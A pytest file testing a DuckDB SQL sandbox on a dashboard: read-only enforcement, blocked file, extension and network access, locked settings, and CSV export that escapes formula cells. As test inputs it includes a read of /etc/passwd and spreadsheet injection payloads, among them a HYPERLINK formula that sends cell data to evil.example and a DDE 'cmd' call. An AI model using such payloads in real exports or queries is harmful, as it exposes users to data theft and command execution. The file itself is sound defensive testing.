"""The SQL page's sandbox: read-only, no local files, no network, no way to turn them back on."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlencode

import duckdb
import pytest

from dashboard.conftest import Served
from tallystick.dashboard import lock_for
from tallystick.dashboard.errors import BadQuery, NoData
from tallystick.dashboard.reader import Reader
from tallystick.warehouse import sandbox


def run_sql(served: Served, sql: str) -> tuple[int, dict[str, object]]:
    status, _, body = served.request(
        "POST", "/api/sql", json.dumps({"sql": sql}).encode(), {"Content-Type": "application/json"}
    )
    return status, json.loads(body)


@pytest.mark.parametrize(
    "sql",
    [
        "INSERT INTO sessions SELECT * FROM sessions",
        "DELETE FROM sessions",
        "UPDATE sessions SET \"userId\" = 'x'",
        "DROP TABLE events",
        "CREATE TABLE stolen AS SELECT 1",
    ],
    ids=["insert", "delete", "update", "drop", "create"],
)
def test_sql_cannot_write(served: Served, sql: str) -> None:
    """Writes are refused by the read-only connection, and the data stays as it was."""
    _, before = run_sql(served, "SELECT count(*) FROM sessions")
    status, body = run_sql(served, sql)
    assert status == 400
    assert "read-only" in str(body["message"])
    assert run_sql(served, "SELECT count(*) FROM sessions")[1]["rows"] == before["rows"]


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_text('/etc/hostname')",
        "SELECT * FROM glob('/etc/*')",
        "COPY sessions TO '{tmp}/out.csv'",
        "EXPORT DATABASE '{tmp}/export'",
        "ATTACH '{tmp}/other.duckdb' AS other",
        "INSTALL httpfs",
        "LOAD httpfs",
    ],
    ids=["read_csv", "read_text", "glob", "copy", "export", "attach", "install", "load"],
)
def test_sql_cannot_touch_local_files_or_extensions(served: Served, sql: str, tmp_path: Path) -> None:
    """Reading or writing files, attaching databases and installing extensions are all refused."""
    status, body = run_sql(served, sql.format(tmp=tmp_path))
    assert status == 400
    assert re.search("disabled|the SQL sandbox is read-only", str(body["message"])), body
    assert list(tmp_path.iterdir()) == []


def _below_the_statement_check(served: Served, sql: str) -> None:
    """Run ``sql`` on the sandboxed connection itself, under the lock, skipping the one-query check."""
    with lock_for(served.warehouse):
        con = sandbox.connect_duckdb(served.warehouse)
        try:
            con.execute(sql)
        finally:
            con.close()


@pytest.mark.parametrize(
    "sql",
    [
        "COPY (SELECT repeat('x', 1000) FROM range(3000)) TO '{spill}/fill.csv'",
        "SELECT * FROM glob('{spill}/*')",
        "SELECT * FROM read_csv('{spill}/left.csv')",
    ],
    ids=["copy", "glob", "read_csv"],
)
def test_sql_cannot_reach_the_spill_directory(served: Served, sql: str) -> None:
    """DuckDB's temp directory (``<warehouse>.tmp/``, always allowed when spilling is on) is out of reach."""
    spill = Path(f"{served.warehouse}.tmp")
    spill.mkdir(exist_ok=True)  # as a process killed mid-spill leaves it
    (spill / "left.csv").write_text("a\n1\n")
    status, body = run_sql(served, sql.format(spill=spill))
    assert status == 400, body
    # Below the statement check too: the sandboxed connection itself refuses the directory.
    with pytest.raises(duckdb.Error, match="disabled"):
        _below_the_statement_check(served, sql.format(spill=spill))
    assert sorted(p.name for p in spill.iterdir()) == ["left.csv"]


@pytest.mark.parametrize(
    "sql",
    ["PRAGMA version", "CALL pragma_version()", "CHECKPOINT", "VACUUM", "DETACH DATABASE warehouse", "USE memory"],
    ids=str,
)
def test_sql_runs_queries_only(served: Served, sql: str) -> None:
    """Any statement DuckDB does not parse as a query is refused, whatever it is."""
    status, body = run_sql(served, sql)
    assert status == 400
    assert str(body["message"]).startswith("the SQL sandbox is read-only: only one query (SELECT ...)"), body


def test_sql_cannot_reach_the_network(served: Served, counting_http_server: tuple[str, list[str]]) -> None:
    """A query naming a URL is refused and no request leaves the process."""
    url, hits = counting_http_server
    status, body = run_sql(served, f"SELECT * FROM read_csv('{url}/data.csv')")
    assert status == 400
    assert "disabled" in str(body["message"])
    assert hits == []


@pytest.mark.parametrize(
    "sql", ["SET enable_external_access = true", "RESET lock_configuration", "SET threads = 64"], ids=str
)
def test_sql_cannot_change_the_sandbox(served: Served, sql: str) -> None:
    """A SET is not a query; and below that check the settings are locked, so nothing turns access back on."""
    status, body = run_sql(served, sql)
    assert status == 400
    assert "the SQL sandbox is read-only" in str(body["message"])
    with pytest.raises(duckdb.Error, match="locked"):
        _below_the_statement_check(served, sql)


def test_sql_runs_one_statement_at_a_time(served: Served) -> None:
    """Several statements in one query are refused with a hint."""
    status, body = run_sql(served, "SELECT 1; SELECT 2")
    assert status == 400
    assert body["message"] == "one statement at a time, please (this has 2)"


def test_slow_query_is_stopped(served: Served) -> None:
    """A query past the deadline is interrupted, so it cannot hold up the loader."""
    reader = Reader(served.warehouse, timeout_seconds=0.3)
    with pytest.raises(BadQuery, match="took too long"):
        reader.run(lambda con: con.query("SELECT count(*) FROM range(100000000000) a"))


def test_reader_waits_for_a_load_cycle(served: Served) -> None:
    """While the loader holds the warehouse lock, a request waits, then says the warehouse is busy."""
    reader = Reader(served.warehouse, wait_seconds=0.2)
    with lock_for(served.warehouse), pytest.raises(NoData, match="busy loading"):
        reader.run(lambda con: con.scalar("SELECT 1"))
    assert reader.run(lambda con: con.scalar("SELECT 1")) == 1


def test_missing_warehouse_says_how_to_get_one(tmp_path: Path) -> None:
    """Before the first load the dashboard explains where the data will come from."""
    with pytest.raises(NoData, match="the loader creates it on its first cycle"):
        Reader(tmp_path / "none.duckdb").run(lambda con: con.scalar("SELECT 1"))


def test_csv_download_has_header_rows_and_quoting(served: Served) -> None:
    """The CSV endpoint answers the query as an attachment, lines ending in \\n as every CSV Tallystick writes."""
    status, headers, body = served.request("GET", "/api/sql.csv?q=SELECT%20%27a%2Cb%27%20AS%20x%2C%202%20AS%20y")
    assert status == 200
    assert headers["content-type"].startswith("text/csv")
    assert "attachment" in headers["content-disposition"]
    assert body == b'x,y\n"a,b",2\n'


def test_csv_cells_that_a_spreadsheet_would_run_are_text(served: Served) -> None:
    """Text starting with = + - @, a tab or a CR is prefixed with ' in the CSV, headers too; numbers stay numbers."""
    values = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1", "\tx", "\rx"]
    columns = ", ".join(f"'{v.replace(chr(39), chr(39) * 2)}' AS c{i}" for i, v in enumerate(values))
    sql = f"SELECT {columns}, -5 AS n, 'plain' AS p, '=1' AS \"=cmd\""
    status, _, body = served.request("GET", "/api/sql.csv?" + urlencode({"q": sql}))
    assert status == 200, body
    header, row = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert header == [*(f"c{i}" for i in range(len(values))), "n", "p", "'=cmd"]
    assert row == [*("'" + v for v in values), "-5", "plain", "'=1"]


def test_progress_bar_is_off_and_stays_off(served: Served, tmp_path: Path) -> None:
    """Long queries draw no progress bar on the server's stdout, and a query cannot turn it back on."""
    # DuckDB turns the bar off by itself under pytest, so ask a process of its own.
    warehouse = tmp_path / "warehouse.duckdb"
    duckdb.connect(str(warehouse)).close()
    code = (
        "import sys; from tallystick.dashboard.reader import Reader; "
        "print(Reader(sys.argv[1]).run(lambda con: con.scalar(\"SELECT current_setting('enable_progress_bar')\")))"
    )
    shown = subprocess.run([sys.executable, "-c", code, str(warehouse)], capture_output=True, text=True, timeout=60)
    assert shown.stdout.strip() == "False", shown.stderr
    with pytest.raises(duckdb.Error, match="locked"):
        _below_the_statement_check(served, "SET enable_progress_bar = true")
